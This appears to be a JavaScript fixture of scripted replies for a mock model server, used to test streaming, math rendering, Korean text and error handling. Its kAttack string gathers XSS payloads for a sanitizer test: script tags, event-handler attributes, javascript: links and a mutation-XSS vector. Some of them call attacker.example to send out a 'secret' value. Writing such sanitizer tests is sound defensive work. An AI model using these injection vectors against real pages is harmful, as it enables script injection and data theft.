// What the mock's models say. A prompt that holds one of these words gets that script; otherwise "default". Tests look at a slow
// one in the middle: after so many pieces as `holds` says it waits for them (stream.mjs).
const pieces = (text) => text.match(/[\s\S]{1,3}/gu) ?? [];

const thought = `The numbers are 3, 7, 25 and 50; the target is 124.

50 + 25 = 75, and 124 - 75 = 49 = 7 * 7, but there is one 7 only.
25 * 3 = 75, 75 + 50 = 125, and 125 - 7 = 118. No.
50 * 3 = 150; 150 - 25 = 125; 125 - 7 = 118. No.
What about $(25 - 7) \\cdot 3 = 54$ and $54 + 50 = 104$. No.
(50 - 7) * 3 = 129, and 129 - 25 = 104. No.
7 * 25 = 175; 175 - 50 = 125; and 125 - 3 = 122. Close.
7 * 25 - 50 - 3 = 122, so with 3 / 3 ... no second 3.
`;

const answer = `No way with all four numbers has come up; the closest that I found is **122**:

$$7 \\times 25 - 50 - 3 = 122$$

| step | result |
|:--|--:|
| $7 \\times 25$ | 175 |
| $175 - 50$ | 125 |
| $125 - 3$ | 122 |

To be sure, try every way with a few lines of Python:

\`\`\`python
from itertools import permutations

def reach(numbers, target):
    """Every value that two numbers make, then go on with the rest."""
    if len(numbers) == 1:
        return abs(numbers[0] - target) < 1e-9
    for a, b, *rest in permutations(numbers):
        values = [a + b, a - b, a * b] + ([a / b] if b else [])
        if any(reach([value, *rest], target) for value in values):
            return True
    return False

print(reach([3, 7, 25, 50], 124))
\`\`\`

1. The order of two numbers matters for \`-\` and \`/\` only.
2. With $n$ numbers there are at most $n!\\,(n-1)!\\,4^{n-1}$ ways, here $4!\\cdot 3!\\cdot 4^3 = 9216$.
`;

const korean = `처음 $n$개의 홀수를 더하면 **$n^2$**이 됩니다.

$$\\sum_{k=1}^{n} (2k-1) = 2\\cdot\\frac{n(n+1)}{2} - n = n^2$$

그림으로 보면 더 쉽습니다. 한 변이 $k-1$인 정사각형에 **ㄱ** 모양으로 $2k-1$개의 점을 붙이면 한 변이 $k$인 정사각형이 됩니다.

- $1 = 1^2$
- $1 + 3 = 2^2$
- $1 + 3 + 5 = 3^2$

이것을 **"그노몬"**이라고 부릅니다. **\`sum(range(1, 2*n, 2))\`**로 확인해 보세요.
`;

export const kAttack = `Hello <script>window.hacked = 1</script><img src=x onerror="window.hacked = 2"> world.

<iframe srcdoc="<script>parent.hacked = 3</script>"></iframe>
<svg onload="window.hacked = 4"><a xlink:href="javascript:window.hacked=5">x</a></svg>

[click](javascript:window.hacked=6) and [data](data:text/html,<script>window.hacked=7</script>) and
![leak](http://attacker.example/?q=secret) and <a href="x" onclick="window.hacked=8">y</a>

<details open ontoggle="window.hacked=9"><summary>more</summary>text</details>

$\\href{javascript:window.hacked=10}{x}$ and $\\htmlData{x=y}{z}$ and $\\includegraphics{http://attacker.example/a.png}$

\`\`\`html"onmouseover="window.hacked=11
<b onclick="window.hacked=12">code</b>
\`\`\`

<math><mtext></form><form><mglyph><style></math><img src onerror=window.hacked=13>
<style>body { display: none }</style><form action="http://attacker.example"><input name=q></form>
<div data-tex="\\href{javascript:window.hacked=14}{z}" class="math">m</div>

| a | <img src=x onerror=window.hacked=15> |
|---|---|
| b | <b>bold</b> H<sub>2</sub>O<br>next |
`;

export const kScripts = {
  default: { thought: pieces(thought), answer: pieces(answer), energy: true },
  홀수: { thought: pieces("홀수의 합을 정사각형으로 생각해 보자. $1+3+5=9$이니까 $3^2$이다.\n일반적으로 증명해 보자.\n"), answer: pieces(korean) },
  attack: { thought: pieces("A <img src=x onerror=window.hacked=20> thought.\n"), answer: pieces(kAttack) },
  price: { thought: [], answer: pieces("It is $5 or $6, and 2**3 is 8; $x$ is a letter.") },
  hangul: { thought: [], answer: [..."안녕하세요 👩‍👩‍👧 한글이 깨지지 않습니다"], splitsBytes: true },
  endless: { thought: pieces("Wait, let me check this again.\n".repeat(400)), answer: pieces("Done."), delay: 12, holds: { thought: 60 } },
  slow: {
    thought: pieces("Slowly, one thing after another. ".repeat(60)), answer: pieces("A slow answer, word for word. ".repeat(40)), delay: 10, holds: { thought: 40, answer: 10 },
  },
  budget: { thought: pieces("Thinking until the budget is used up. "), answer: ["The answer after the budget."], ending: "budget" },
  wrong: { thought: pieces("Hm. "), answer: ["7 + 7 = 15"], verified: { task: "countdown", right: false } },
  right: { thought: pieces("Hm. "), answer: ["<answer>(7 + 5) * 2</answer> makes 24."], verified: { task: "countdown", right: true } },
  silent: { thought: pieces("Thinking and thinking. "), answer: [], finish: "length", ending: "length" },
  toolong: { status: 400, error: { message: "The prompt has 5,210 tokens and the context of minke-nano is 4,096.", type: "invalid_request_error", param: "messages", code: "context_length_exceeded" } },
  busy: { status: 503, retry: 3, error: { message: "The queue is full.", type: "server_error", param: null, code: "queue_full" } },
  midway: { thought: pieces("So far so good. "), answer: pieces("This answer breaks "), errorAfter: { message: "The model file could not be read any more.", type: "server_error", param: null, code: "io" } },
  cutoff: { thought: [], answer: pieces("This stream ends without its end mark"), cut: true },
};

export function scriptFor(prompt) {
  const name = Object.keys(kScripts).find((key) => key !== "default" && prompt.includes(key));
  return kScripts[name ?? "default"];
}
